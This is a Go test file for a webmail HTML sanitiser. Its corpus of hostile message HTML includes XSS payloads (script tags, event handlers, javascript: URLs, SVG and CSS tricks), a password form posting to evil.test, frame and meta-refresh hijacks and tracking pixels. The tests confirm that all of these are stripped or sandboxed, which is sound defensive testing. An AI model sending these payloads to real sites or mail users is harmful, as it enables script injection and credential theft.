package webmail

import (
	"encoding/base64"
	"fmt"
	"net/http"
	"regexp"
	"strings"
	"testing"
)

// hostileHTML is the corpus: each entry is message HTML and what must
// never be in the sanitised output (case-insensitive regular expressions).
var hostileHTML = []struct {
	name, html string
	never      []string
}{
	{"script", `<p>hi</p><script>alert(1)</script><SCRIPT src="https://evil.test/x.js"></SCRIPT>`, []string{`<script`, `alert`, `evil\.test`}},
	{"event handlers", `<img src="cid:x" onerror="alert(1)"><body onload=alert(2)><div onmouseover="alert(3)">x</div><a href="#" onclick="alert(4)">y</a>`, []string{`onerror`, `onload`, `onmouseover`, `onclick`, `alert`}},
	{"javascript URLs", `<a href="javascript:alert(1)">a</a><a href=" JaVaScRiPt:alert(2)">b</a><a href="java&#x09;script:alert(3)">c</a><img src="javascript:alert(4)"><a href="vbscript:msgbox(1)">d</a><a href="data:text/html,<script>alert(5)</script>">e</a>`, []string{`javascript`, `vbscript`, `data:text`, `alert`}},
	{"SVG with script", `<svg onload="alert(1)"><script>alert(2)</script><foreignObject><iframe src="https://evil.test"></iframe></foreignObject></svg><img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`, []string{`<svg`, `<script`, `alert`, `<iframe`, `svg\+xml`, `evil\.test`}},
	{"CSS expressions", `<div style="width: expression(alert(1)); color: red">a</div><p style="background:url(javascript:alert(2))">b</p><style>body{background:url(https://evil.test/t.png)} *{behavior:url(x.htc)}</style><span style="-moz-binding:url(https://evil.test/x.xml#x)">c</span>`, []string{`expression`, `alert`, `url\(`, `<style`, `behavior`, `binding`, `evil\.test`}},
	{"meta refresh", `<meta http-equiv="refresh" content="0;url=https://evil.test/"><base href="https://evil.test/"><link rel="stylesheet" href="https://evil.test/s.css">`, []string{`<meta`, `refresh`, `<base`, `<link`, `evil\.test`}},
	{"forms", `<form action="https://evil.test/steal" method="post"><input name="password" type="password"><button formaction="https://evil.test/">Log in</button><textarea>x</textarea><select><option>a</option></select></form>`, []string{`<form`, `<input`, `<button`, `formaction`, `<textarea`, `<select`, `evil\.test`}},
	{"frames and objects", `<iframe src="https://evil.test/"></iframe><object data="https://evil.test/x.swf"></object><embed src="https://evil.test/x"><applet code="x"></applet><frameset><frame src="https://evil.test/"></frameset>`, []string{`<iframe`, `<object`, `<embed`, `<applet`, `<frame`, `evil\.test`}},
	{"remote images", `<img src="https://tracker.test/pixel.gif?u=alice"><img src="http://tracker.test/a.png"><img src="//tracker.test/b.png"><img srcset="https://tracker.test/c.png 2x"><table background="https://tracker.test/bg.png"><tr><td>x</td></tr></table><video poster="https://tracker.test/p.png"></video>`, []string{`tracker\.test`}},
	{"closes the page markup", `</iframe></div></article></main></body></html><script>alert(1)</script><div id="message-list" class="x">fake</div><h1>`, []string{`</iframe`, `</body`, `</html`, `<script`, `alert`, `id="message-list"`}},
	{"comments and CDATA", `<!--<script>alert(1)</script>--><![CDATA[<script>alert(2)</script>]]><!--[if IE]><script>alert(3)</script><![endif]-->`, []string{`<script`, `<!--`, `alert\(1\)`, `alert\(3\)`}},
	{"entities and nesting", `<scr<script>ipt>alert(1)</scr</script>ipt><<img src=x onerror=alert(2)//>`, []string{`<script`, `onerror`}},
}

func TestSanitizerCorpus(t *testing.T) {
	pol := newSanitizer()
	pm := &parsedMessage{}
	for _, tc := range hostileHTML {
		for _, remote := range []bool{false, true} {
			out := sanitizeHTML(pol, tc.html, pm, remote).HTML
			for _, bad := range tc.never {
				if tc.name == "remote images" && remote {
					continue // asked for: the images load
				}
				if regexp.MustCompile("(?i)" + bad).MatchString(out) {
					t.Errorf("%s (remote %v): output has %q:\n%s", tc.name, remote, bad, out)
				}
			}
		}
	}
}

func TestSanitizerKeepsMailLayout(t *testing.T) {
	pol := newSanitizer()
	in := `<table width="600" cellpadding="4" bgcolor="#ffffff"><tr><td align="center" style="color: #333333; font-size: 14px; padding: 8px">Hello <b>there</b> <a href="https://example.org/x">link</a></td></tr></table><font color="red">red</font>`
	out := sanitizeHTML(pol, in, &parsedMessage{}, false).HTML
	for _, want := range []string{`<table width="600" cellpadding="4" bgcolor="#ffffff">`, `align="center"`, `color: #333333`, `font-size: 14px`,
		`<b>there</b>`, `href="https://example.org/x"`, `rel="nofollow noreferrer noopener"`, `target="_blank"`, `<font color="red">`} {
		if !strings.Contains(out, want) {
			t.Errorf("lost %q:\n%s", want, out)
		}
	}
}

func TestSanitizerImages(t *testing.T) {
	png := []byte("\x89PNG\r\n\x1a\nfake")
	pm := &parsedMessage{Parts: []*mimePart{
		{Path: "2", Type: "image/png", ContentID: "logo@x", Body: png, Size: len(png)},
		{Path: "3", Type: "image/svg+xml", ContentID: "svg@x", Body: []byte("<svg onload=alert(1)>"), Size: 21},
	}}
	in := `<img src="cid:logo@x" alt="logo"><img src="cid:svg@x"><img src="cid:missing@x"><img src="https://tracker.test/p.gif">`
	s := sanitizeHTML(newSanitizer(), in, pm, false)
	want := `src="data:image/png;base64,` + base64.StdEncoding.EncodeToString(png) + `"`
	if !strings.Contains(s.HTML, want) {
		t.Errorf("cid image not inlined:\n%s", s.HTML)
	}
	if strings.Contains(s.HTML, "svg") || strings.Contains(s.HTML, "tracker") || strings.Contains(s.HTML, "missing") {
		t.Errorf("unsafe or remote image kept:\n%s", s.HTML)
	}
	if !s.Remote {
		t.Error("remote image not noticed")
	}
	s = sanitizeHTML(newSanitizer(), in, pm, true)
	if !strings.Contains(s.HTML, `src="https://tracker.test/p.gif"`) {
		t.Errorf("remote image not shown when asked:\n%s", s.HTML)
	}
}

// TestFrameServesHostileMail delivers each corpus entry as a message and
// checks the frame over HTTPS: its own strict CSP, sandboxed, nothing of
// the corpus' forbidden patterns, and the page around it untouched.
func TestFrameServesHostileMail(t *testing.T) {
	e := newTestEnv(t)
	c := e.client().mustLogin("alice@example.test")
	inbox := e.mailbox(e.alice, "INBOX")
	for _, tc := range hostileHTML {
		uid := e.deliver(e.alice, "INBOX", "From: x@example.org\nSubject: "+tc.name+"\nMIME-Version: 1.0\nContent-Type: text/html; charset=utf-8\n\n"+tc.html+"\n")
		base := fmt.Sprintf("/webmail/message/%d/%d", inbox.ID, uid)
		r, body := c.get(base + "/frame")
		if r.StatusCode != 200 {
			t.Fatalf("%s: frame %s", tc.name, r.Status)
		}
		csp := r.Header.Get("Content-Security-Policy")
		for _, want := range []string{"default-src 'none'", "sandbox", "img-src data:;", "frame-ancestors 'self'"} {
			if !strings.Contains(csp, want) {
				t.Errorf("%s: frame CSP %q lacks %q", tc.name, csp, want)
			}
		}
		if strings.Contains(csp, "script-src") || strings.Contains(csp, "http") {
			t.Errorf("%s: frame CSP allows too much: %q", tc.name, csp)
		}
		// The message's part of the frame document: between our <body>
		// and our closing tags.
		start := strings.Index(body, "<body>")
		end := strings.LastIndex(body, "</body></html>")
		if start < 0 || end < start {
			t.Fatalf("%s: frame document malformed:\n%s", tc.name, body)
		}
		inner := body[start+len("<body>") : end]
		for _, bad := range tc.never {
			if regexp.MustCompile("(?i)" + bad).MatchString(inner) {
				t.Errorf("%s: frame has %q", tc.name, bad)
			}
		}
		// The page: the body is in the frame only, never inline.
		r, page := c.get(base)
		if r.StatusCode != 200 || !strings.Contains(page, `<iframe id="message-frame"`) || !strings.Contains(page, `sandbox="allow-popups allow-popups-to-escape-sandbox"`) {
			t.Fatalf("%s: view %s without sandboxed frame", tc.name, r.Status)
		}
		if strings.Contains(page, "alert(") || strings.Contains(page, "evil.test") || strings.Contains(page, "tracker.test") {
			t.Errorf("%s: the page itself carries message HTML", tc.name)
		}
		if r.Header.Get("Content-Security-Policy") != pageCSP {
			t.Errorf("%s: page CSP %q", tc.name, r.Header.Get("Content-Security-Policy"))
		}
		if tc.name == "remote images" {
			if !strings.Contains(page, `data-action="show-remote"`) {
				t.Error("no show-remote-images link")
			}
			r, body := c.get(base + "/frame?remote=1")
			if !strings.Contains(r.Header.Get("Content-Security-Policy"), "img-src data: https: http:") || !strings.Contains(body, "https://tracker.test/pixel.gif") {
				t.Errorf("remote images not shown when asked: %q", r.Header.Get("Content-Security-Policy"))
			}
		}
	}
}

func TestPlainTextEscaped(t *testing.T) {
	e := newTestEnv(t)
	c := e.client().mustLogin("alice@example.test")
	uid := e.deliver(e.alice, "INBOX", "From: x@example.org\nSubject: plain\n\n<script>alert(1)</script> & </pre></body>\n")
	r, body := c.get(fmt.Sprintf("/webmail/message/%d/%d/frame", e.mailbox(e.alice, "INBOX").ID, uid))
	if r.StatusCode != http.StatusOK {
		t.Fatal(r.Status)
	}
	if strings.Contains(body, "<script>") || !strings.Contains(body, "&lt;script&gt;alert(1)&lt;/script&gt; &amp; &lt;/pre&gt;&lt;/body&gt;") {
		t.Errorf("plain text not escaped:\n%s", body)
	}
}
